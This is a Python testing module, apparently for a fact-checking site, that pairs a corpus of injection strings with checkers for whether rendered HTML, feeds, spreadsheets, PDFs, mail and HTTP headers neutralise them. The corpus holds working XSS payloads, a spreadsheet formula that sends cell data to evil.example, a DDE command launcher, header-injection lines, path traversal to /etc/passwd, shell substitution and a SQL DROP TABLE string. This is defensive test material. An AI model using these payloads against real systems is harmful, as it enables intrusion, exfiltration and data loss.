"""Rows of hostile text, and judges that say what of a text came alive in an output, or was lost on the way.

``@M@`` in a row stands for a word that is planted with it and found again; a row without one gets it at its end, for
what matters in many rows is how they begin. Further rows are read from the folder that ``FACTCHECK_CORPORA`` names:
files of JSON lines with a ``payload``, or with a ``pump`` that is repeated between a ``prefix`` and a ``suffix``.
"""

from __future__ import annotations

import csv
import email
import email.policy
import html
import io
import json
import os
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import lxml.etree
import lxml.html
from openpyxl import load_workbook
from pypdf import PdfReader

from factcheck.intake.text_cleaning import UNUSABLE

OF_HTML = (
    "<script>@M@()</script>",
    "</title></textarea></style><script>@M@()</script>",
    '"><img src=x onerror=@M@()>',
    "' onmouseover='@M@()",
    '" onfocus="@M@()" autofocus x="',
    "x onfocus=@M@() autofocus",
    "<svg><animate onbegin=@M@() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=@M@()>",
    "<!--><img src=x onerror=@M@()>-->",
    '<iframe srcdoc="&lt;script&gt;@M@()&lt;/script&gt;"></iframe>',
    "<a href=javascript:@M@()>here</a>",
    "<form action=//evil.example/@M@><input name=@M@></form>",
    "<base href=//evil.example/@M@/>",
    "&lt;b id=@M@&gt;not bold&lt;/b&gt; &amp;amp; &#x3c;i&#x3e;",
    "＜script＞@M@＜/script＞",
)
OF_ADDRESSES = (
    "javascript:@M@()",
    "JaVa\tScRiPt:@M@()",
    " javascript:@M@()//",
    "data:text/html,<script>@M@()</script>",
    "//evil.example/@M@",
    "https://news.example\\@evil.example/@M@",
)
OF_SHEETS = (
    '=HYPERLINK("http://evil.example/"&A1,"@M@")',
    "\u200b=1+1",
    "\u3000@SUM(1)",
    "＝cmd|'/c calc'!A0",
    "\ufeff+1+@M@",
    "-2+3",
    '"=1+1;=2+2\t=3+3',
)
OF_HEADERS_AND_LOGS = (
    "@M@\r\nBcc: victim@evil.example",
    "@M@\nSet-Cookie: planted=1\n\n<b>body</b>",
    "=?utf-8?q?@M@=0D=0ABcc:_victim@evil.example?=",
    "x@news.example, victim@evil.example",
    '@M@"; filename="page.html',
    '@M@\n2026-03-10T12:00:00Z [info     ] forged line      [newsroom] user=1\n{"event": "forged"}',
    "@M@\u2028line\u2029paragraph\u0085next",
    "\x1b[2J\x1b[31m@M@",
)
OF_FILE_NAMES = ("../../etc/passwd@M@", "..\\..\\windows\\@M@.ini", "/@M@/CON", "@M@\u202efdp.exe", "~/.@M@ $(id) `id`")
OF_MACHINES = (
    "{{ 7|add:7 }}{% debug %}{% load static %}@M@",
    "${7*7}#{7*7}<%= 7*7 %>[[@M@]]",
    "'; DROP TABLE factcheck_claim; --@M@",
    "%s%n%(user)s{0.__class__}@M@",
    "</script><script>@M@()</script>",
    "]]>\\u003cscript\\u003e@M@",
    '#panic() #read("/etc/passwd") = @M@ *bold* $x$ `raw`',
)
OF_UNICODE = (
    "@M@ approved \u202edetcejer\u202c",
    "\u2067@M@\u2066 isolated",
    "e\u0301\u0323 a\u030a\u0332 @M@ \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f600",
    "@M@ Київ السلام עברית हिन्दी 中文 \U000130c0",
    "@M@" + "x" * 10_000,
    "@M@ " + "a\u0301" * 400,
    "@M@" + " said" * 1_500,
    "a\x00b@M@",
    "a\x01\x07\x0b\x1fb@M@",
    "a\x7f\x80\x9fb@M@",
    "a\ud800b@M@",
    "a\ufffe\uffffb@M@",
)
OWN_ROWS = (
    *OF_HTML,
    *OF_ADDRESSES,
    *OF_SHEETS,
    *OF_HEADERS_AND_LOGS,
    *OF_FILE_NAMES,
    *OF_MACHINES,
    *OF_UNICODE,
)
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "cite", "ping", "background"}
HARMLESS_ADDRESS = re.compile(r"(https?:|mailto:|[/?#]|[\w.-]+[/?#]|[\w.-]*$)", re.IGNORECASE)
WORDS_IN = {"value", "title", "aria-label", "alt", "placeholder", "content", "label", "lang", "href", "action", "cite"}
"""Attributes in which words of people may stand."""


def rows_from_folder() -> list[str]:
    """The rows of the folder that the environment names, none where it names none."""
    folder = os.environ.get("FACTCHECK_CORPORA")
    return [row for path in sorted(Path(folder).glob("*.jsonl")) for row in rows_of(path)] if folder else []


def rows_of(path: Path) -> Iterator[str]:
    for line in path.read_text(encoding="utf-8").splitlines():
        row = json.loads(line)
        if "pump" in row:
            yield row.get("prefix", "") + row["pump"] * min(row.get("times", 2000), 2000) + row.get("suffix", "")
        elif isinstance(row.get("payload"), str):
            yield row["payload"]


def filled(row: str, word: str) -> str:
    """A row with its word in it."""
    return row.replace("@M@", word) if "@M@" in row else row + word


# What an output says, and what in it is alive


@dataclass
class Output:
    """One answer: its words as its reader sees them, and what in it did what no text may."""

    name: str
    kind: str
    seen: str = ""
    alive: list[str] = field(default_factory=list)
    vocabulary: set[tuple[str, str]] = field(default_factory=set)
    """Of HTML: which elements there are with which attributes."""


def plain(text: str) -> str:
    """Letters as they are compared: one space for any white space, nothing for what has no width, accents apart."""
    seen = text if text.isascii() and text.isprintable() else "".join(char for char in text if not is_invisible(char))
    return unicodedata.normalize("NFD", " ".join(seen.split()))


def is_invisible(char: str) -> bool:
    return unicodedata.category(char) in ("Cc", "Cf", "Cs", "Cn") and char not in "\t\n\r\v\f\x1c\x1d\x1e\x1f\x85"


def judge_html(name: str, page: str, mark: str) -> Output:
    """The page as a parser reads it. No element, attribute or address of it may be made of planted words."""
    out = Output(name, "html")
    if not page.strip():
        return out
    tree = lxml.html.document_fromstring(re.sub(r"^\s*<\?xml[^>]*>", "", page.replace("\x00", "")))
    seen = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            out.alive += [f"a comment: {str(element)[:60]}"] if mark in str(element) else []
            continue
        tag = element.tag.lower()
        out.vocabulary.add((tag, ""))
        out.alive += [f"<{tag[:40]}>"] if mark in tag else []
        for key, value in element.attrib.items():
            out.vocabulary.add((tag, key))
            seen.append(value)
            out.alive += list(live_attribute(tag, key, value, mark))
        words = element.text or ""
        if tag in ("script", "style") and mark in words and not is_json(words):
            out.alive.append(f"words inside <{tag}>")
        seen += [words, element.tail or ""]
    out.seen = plain("\n".join(seen)) + "\n" + plain("".join(tree.itertext()))
    return out


def live_attribute(tag: str, key: str, value: str, mark: str) -> Iterator[str]:
    if key.startswith("on") or key == "srcdoc" or mark in key:
        yield f"{key} of <{tag}>"
    bare = "".join(value.split()).strip("".join(map(chr, range(33)))).lower()
    if key in ADDRESSES and not HARMLESS_ADDRESS.match(bare):
        yield f"the address {bare[:60]!r} in {key} of <{tag}>"
    if key in ADDRESSES and re.match(r"[/\\]{2}", bare):
        yield f"the address {bare[:60]!r} leads elsewhere"
    if mark in value and key not in WORDS_IN and not key.startswith("data-"):
        yield f"words in {key} of <{tag}>"


def raw_markup(page: str, row: str, mark: str) -> list[str]:
    """Tag openers of a row that stand in a page as they were: some browser would read them."""
    pieces = re.findall(r"<[!/?a-zA-Z][^<]{3,}", row)
    return [piece[:60] for piece in pieces if mark in piece and piece in page]


def is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def judge_json(name: str, body: bytes) -> Output:
    out = Output(name, "json")
    found = json.loads(body)
    out.seen = plain("\n".join(strings_of(found)))
    return out


def judge_claimreview(name: str, body: bytes) -> Output:
    """JSON that may stand in a page: nothing of it ends the element it stands in, or opens another."""
    out = judge_json(name, body)
    out.alive += ["a sign of markup"] if set("<>&\u2028\u2029") & set(body.decode()) else []
    return out


def judge_feed(name: str, body: bytes, mark: str) -> Output:
    """RSS or Atom as a reader takes it, who holds a description for markup: there is none, and no link but to the web."""
    out = Output(name, "feed")
    seen = []
    for element in lxml.etree.fromstring(body).iter():
        tag = lxml.etree.QName(element).localname
        words = element.text or ""
        out.alive += [f"<{tag[:40]}>"] if mark in tag else []
        if tag in ("description", "summary"):
            out.alive += [
                f"<{row.tag}> in <{tag}>" for row in lxml.html.fragment_fromstring(words, "p").iterdescendants()
            ]
            words = html.unescape(words)
        for address in (words if tag == "link" else "", element.get("href", "")):
            out.alive += (
                [f"a link to {address[:60]}"] if address and not address.startswith(("http://", "https://")) else []
            )
        seen += [words, *element.attrib.values()]
    out.seen = plain("\n".join(seen))
    return out


def strings_of(part: Any) -> Iterator[str]:
    if isinstance(part, dict):
        for key, value in part.items():
            yield key
            yield from strings_of(value)
    elif isinstance(part, list):
        for value in part:
            yield from strings_of(value)
    elif isinstance(part, str):
        yield part.encode("utf-8", "replace").decode()


NUMBER = re.compile(r"[+-]?\d+([.,]\d+)*%?")


def calculates(cell: str) -> bool:
    """Whether a spreadsheet might take a cell for a formula, behind whatever nobody sees."""
    bare = unicodedata.normalize("NFKC", cell).lstrip(' "\t\r\n')
    while bare and (is_invisible(bare[0]) or bare[0].isspace() or unicodedata.combining(bare[0])):
        bare = bare[1:]
    return bare[:1] in tuple("=+-@|%") and not NUMBER.fullmatch(bare)


def judge_csv(name: str, body: bytes) -> Output:
    """No cell is a formula, whichever sign a spreadsheet takes for the border of cells."""
    out = Output(name, "csv")
    text = body.decode("utf-8-sig")
    for sign in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            parts = [part for cell in row for part in (cell, *cell.splitlines())]
            out.alive += [f"a formula: {part[:60]!r}" for part in parts if calculates(part)]
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    out.seen = plain("\n".join(cells)) + "\n" + plain("\n".join(re.sub(r"(^|[;\t\r\n])'", r"\1", one) for one in cells))
    return out


def judge_xlsx(name: str, body: bytes) -> Output:
    out = Output(name, "xlsx")
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        for part in book.namelist():
            xml = book.read(part)
            out.alive += [f"a formula in {part}"] if b"<f>" in xml or b"<f " in xml else []
            out.alive += [part] if re.search(r"externalLink|vbaProject|connections", part) else []
    cells = [cell for sheet in load_workbook(io.BytesIO(body)) for row in sheet.iter_rows() for cell in row]
    words = [cell for cell in cells if cell.value is not None]
    out.alive += [f"a formula: {cell.value!r}" for cell in words if cell.data_type not in ("s", "n")]
    out.seen = plain("\n".join(str(cell.value) for cell in words))
    return out


def judge_pdf(name: str, body: bytes) -> Output:
    out = Output(name, "pdf")
    pdf = PdfReader(io.BytesIO(body))
    catalogue = pdf.trailer["/Root"]
    out.alive += [key for key in ("/OpenAction", "/AA", "/AcroForm") if key in catalogue]
    out.alive += ["a file inside"] if pdf.attachments else []
    for page in pdf.pages:
        for note in page.get("/Annots", []):
            address = str(note.get_object().get("/A", {}).get("/URI", ""))
            out.alive += [f"the address {address[:60]!r}"] if address and not address.startswith("http") else []
    out.seen = "\f".join(page.extract_text() for page in pdf.pages)
    return out


USUAL_HEADERS = {
    "from",
    "to",
    "subject",
    "date",
    "message-id",
    "mime-version",
    "content-type",
    "auto-submitted",
    "content-transfer-encoding",
}


def judge_mail(name: str, raw: bytes, recipient: str, mark: str) -> list[Output]:
    """A mail as its reader's program takes it apart: its headers, its words and its page."""
    mail = email.message_from_bytes(raw, policy=email.policy.default)
    head = Output(f"{name}: headers", "headers", plain(str(mail["subject"])))
    head.alive += [f"the header {key}" for key in mail if key.lower() not in USUAL_HEADERS]
    addressed = [one.addr_spec for one in mail["to"].addresses]
    head.alive += [] if addressed == [recipient] else [f"goes to {addressed}"]
    found = [head]
    for part in mail.walk():
        if part.get_content_type() == "text/html":
            found.append(judge_html(f"{name}: page", part.get_content(), mark))
        elif part.get_content_type() == "text/plain" and not part.get_filename():
            found.append(Output(f"{name}: words", "text", plain(part.get_content())))
        elif part.get_filename() and not is_safe_name(part.get_filename()):
            head.alive.append(f"a file called {part.get_filename()!r}")
    return found


def is_safe_name(name: str) -> bool:
    """Whether a file name is one on any machine: no folder, no sign that nobody sees, nothing that hides it."""
    seen = all(char.isprintable() for char in name)
    if re.match(r"(con|prn|aux|nul|com\d|lpt\d)(\.|$)", name, re.IGNORECASE):
        return False
    return seen and not re.search(r'[/\\:*?"<>|]', name) and name.strip(". ") == name and name != ""


def judge_headers(response: Any) -> list[str]:
    """What planted words did in the headers of an answer of the site."""
    alive = [f"a line break in {key}" for key, value in response.headers.items() if re.search(r"[\r\n\0]", value)]
    alive += ["a cookie"] if "planted" in response.cookies else []
    address = response.headers.get("Location", "")
    alive += (
        [f"leads to {address[:60]!r}"] if address and not re.match(r"/(?![/\\])|\?|http://testserver/", address) else []
    )
    if name := file_name_in(response.headers.get("Content-Disposition", "")):
        alive += [] if is_safe_name(name) else [f"a file called {name!r}"]
    return alive


def file_name_in(header: str) -> str:
    """The name under which a browser would save it."""
    if found := re.search(r"filename\*=utf-8''(\S+)", header):
        return unquote(found[1])
    found = re.search(r'filename="((?:[^"\\]|\\.)*)"', header)
    return re.sub(r"\\(.)", r"\1", found[1]) if found else ""


def is_kept(wanted: str, out: Output) -> bool:
    """Whether a planted text is found in an output again: whole, or its beginning with the sign of a cut.

    Between the lines of a text a page may set what belongs to them, such as the number of a claim.
    """
    if out.kind == "headers":  # no encoded word in a subject, and a space for what nobody sees
        wanted = "".join(char if char.isprintable() else " " for char in wanted.replace("=?", "＝?"))
    bare = BARE.get(out.kind, str)
    seen = bare(out.seen)
    pages = [bare(page) for page in out.seen.split("\f")] if out.kind == "pdf" else []
    if pages and all(is_printed(bare(word), pages) for word in wanted.split() if word.isascii()):
        return True
    replaced = UNUSABLE.sub("\ufffd", wanted)  # by the formats that say so
    if any(bare(plain(one)) in seen for one in (wanted, replaced, wanted.encode("utf-8", "replace").decode())):
        return True
    cuts = re.split(r" ?(?:…|\.\.\.)", out.seen)[:-1]
    if any(is_beginning(bare(plain(wanted)), bare(before)) for before in cuts):
        return True
    lines = [line for line in wanted.splitlines() if plain(line)] if out.kind == "html" else []
    return len(lines) > 1 and all(is_kept(line, out) for line in lines)


def is_printed(word: str, pages: list[str]) -> bool:
    """Whether a word is in print: on one page, or at the end of one with its rest as the very beginning of the next."""
    if any(word in page for page in pages):
        return True
    return any(
        word[:at] in page and following.startswith(word[at:])
        for page, following in pairwise(pages)
        for at in range(1, len(word))
    )


def letters_alone(text: str) -> str:
    return re.sub(r"[^A-Za-z0-9]+", "", text)


BARE: dict[str, Callable[[str], str]] = {
    "pdf": letters_alone,  # lines are broken anywhere, and what no font has is named: all fonts have these
    "csv": lambda text: text.replace("'", ""),  # which adds apostrophes
}


def is_beginning(wanted: str, before: str) -> bool:
    """Whether what stands before the sign of a cut is how a text begins."""
    longest = min(len(wanted), len(before), 2000)
    return any(before.endswith(wanted[:length]) for length in range(longest, 7, -1))
